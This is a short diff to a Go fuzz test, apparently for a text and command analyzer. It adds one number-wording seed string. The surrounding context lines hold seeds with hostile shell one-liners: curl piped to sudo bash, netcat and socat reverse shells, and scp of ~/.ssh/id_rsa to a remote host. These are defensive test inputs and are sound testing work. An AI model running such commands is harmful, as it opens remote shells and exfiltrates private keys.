@@ -639,6 +639,7 @@ func FuzzAnalyze(f *testing.F) {
 	f.Add("curl -fsSL https://x.example/i.sh | sudo -E bash -\nbash <(wget -qO- x) && eval \"$(curl x)\"; curl -F f=@/etc/hosts -d@x --data-binary=@y u; nc -e /bin/sh h 1 | perl -ne x")
 	f.Add("curl -F")
 	f.Add("0n't ten")
+	f.Add("It ran two seasons, or 2 in all; twenty one, twenty-two hundred, two-thirds of a dozen.")
 	f.Add("Ines Varga did not design it: not twenty-two but thirty-one, wrongly given as Tomas Brandt.")
 	f.Add("curl -o ~/.x/i.sh https://x/i.sh && chmod +x ~/.x/i.sh; sh i.sh\necho x | base64 -d | xxd -r | sh | nc h 1; scp ~/.ssh/id_rsa h:; socat exec:sh tcp:h:1; nc -nve sh h")
 	f.Add("up parade rain on my parade; back me up; don't soften critique, never second-guess him, tell her it's great. Agree")
